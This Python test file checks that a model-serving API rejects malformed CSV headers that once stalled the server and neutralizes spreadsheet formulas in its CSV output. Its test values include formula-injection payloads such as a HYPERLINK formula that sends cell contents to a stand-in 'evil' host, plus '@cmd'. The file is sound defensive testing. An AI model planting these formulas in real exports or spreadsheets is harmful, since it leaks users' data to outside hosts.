"""CSV input and output that cannot hurt: the column guard reads the header as CSV (a quoted newline does not
hide columns), big bodies are parsed off the event loop, and formulas in CSV answers are neutralized."""

from __future__ import annotations

import asyncio
import csv
import io
import json

import pytest
from fastapi.testclient import TestClient
from serve_support import telco_records

from workbench.core.csvsafe import neutralize
from workbench.serve import _tables, create_app


@pytest.fixture
def client(churn_dir, config_for):
    with TestClient(create_app(config_for(("churn", churn_dir), max_body_bytes=16 << 20))) as c:
        yield c


def _post_csv(client, data: bytes, **headers):
    return client.post("/models/churn/predict", content=data, headers={"content-type": "text/csv", **headers})


@pytest.mark.parametrize("body, msg", [
    # the first physical line holds no comma: the old guard counted 0 columns and pandas got 5,001
    (b'"x\ny",' + b"c," * 5000 + b"c\n1\n", "over 4,096 columns"),
    # a quoted field left open over 7.6 MiB of commas (what froze the server for 41 s)
    (b'"x\ny",' + b"c," * 4_000_000, "header row is over 256 KiB"),
])
def test_a_quoted_newline_in_the_header_does_not_skip_the_column_guard(client, monkeypatch, body, msg):
    import pandas as pd

    calls = []
    monkeypatch.setattr(pd, "read_csv", lambda *a, **k: calls.append(1))
    r = _post_csv(client, body)
    assert r.status_code == 422 and msg in json.dumps(r.json()), r.text[:300]
    assert calls == []  # refused before pandas saw the body


def test_a_header_with_a_quoted_newline_is_still_a_header(client):
    rows = telco_records(2)
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=[*rows[0], "a\nnote"], lineterminator="\n")
    writer.writeheader()
    writer.writerows({**r, "a\nnote": "x"} for r in rows)
    r = _post_csv(client, out.getvalue().encode())
    assert r.status_code == 200 and len(r.json()["predictions"]) == 2


def test_big_bodies_are_parsed_off_the_event_loop(client, monkeypatch):
    seen = []
    parse = _tables.TableEndpoint.parse_csv

    def spy(self, data):
        try:
            asyncio.get_running_loop()
            seen.append(("loop", len(data)))
        except RuntimeError:
            seen.append(("thread", len(data)))
        return parse(self, data)

    monkeypatch.setattr(_tables.TableEndpoint, "parse_csv", spy)
    import pandas as pd

    small = pd.DataFrame(telco_records(2)).to_csv(index=False).encode()
    big = pd.DataFrame(telco_records(1000)).to_csv(index=False).encode()
    assert len(small) <= _tables.INLINE_BYTES < len(big)
    for data in (small, big):
        assert _post_csv(client, data).status_code == 200
    assert seen == [("loop", len(small)), ("thread", len(big))]


@pytest.mark.parametrize("value", ["=HYPERLINK(\"http://evil/?\"&A1,\"x\")", "+1+2", "-2+3", "@SUM(A1)", "\tx", "\rx"])
def test_formulas_in_csv_answers_are_neutralized(churn_dir, config_for, value):
    records = [{**r, "customer_id": cid} for r, cid in zip(telco_records(2), [value, "plain"])]
    for keep, expected in ((False, "'" + value), (True, value)):
        config = config_for(("churn", churn_dir), neutralize_formulas=not keep)
        with TestClient(create_app(config)) as c:
            r = c.post("/models/churn/predict", json={"records": records}, headers={"accept": "text/csv"})
            got = list(csv.DictReader(io.StringIO(r.text)))
            assert [g["customer_id"] for g in got] == [expected, "plain"], r.text
            assert all(not g["proba_Yes"].startswith("'") for g in got)  # numbers stay numbers


def test_neutralize_leaves_numbers_and_plain_text():
    assert [neutralize(v) for v in (-1.5, 3, None, "abc", "a=b", "=1", "-x", "")] == \
        [-1.5, 3, None, "abc", "a=b", "'=1", "'-x", ""]


def test_predict_cli_neutralizes_formulas_unless_asked_to_keep_them(churn_dir, tmp_path):
    import pandas as pd
    from support import run_cli

    frame = pd.DataFrame(telco_records(3))
    frame["customer_id"] = ['=HYPERLINK("http://evil/?"&A1,"click")', "@cmd", "c2"]
    frame.to_csv(tmp_path / "new.csv", index=False)
    for flags, expected in (([], ["'=HYPERLINK(\"http://evil/?\"&A1,\"click\")", "'@cmd", "c2"]),
                            (["--keep-formulas"], frame["customer_id"].tolist())):
        proc = run_cli("predict", churn_dir, "new.csv", "-o", "pred.csv", "--force", *flags, cwd=tmp_path)
        assert proc.returncode == 0, proc.stderr
        rows = list(csv.DictReader(open(tmp_path / "pred.csv", newline="")))
        assert [r["customer_id"] for r in rows] == expected
        assert all(float(r["proba_Yes"]) == float(r["proba_Yes"]) for r in rows)  # numbers stay numbers


def test_a_first_row_wider_than_the_header_is_not_an_index(client, monkeypatch):
    """pandas reads extra fields of the first row as index levels (quadratic: 10,000 fields took 12 s)."""
    import pandas as pd

    kwargs = []
    read_csv = pd.read_csv
    monkeypatch.setattr(pd, "read_csv", lambda *a, **k: kwargs.append(k) or read_csv(*a, **k))
    r = _post_csv(client, b"tenure\n" + b"1," * 10_000 + b"\n")
    assert r.status_code == 422 and "lacks column(s)" in r.text
    assert kwargs[0]["index_col"] is False
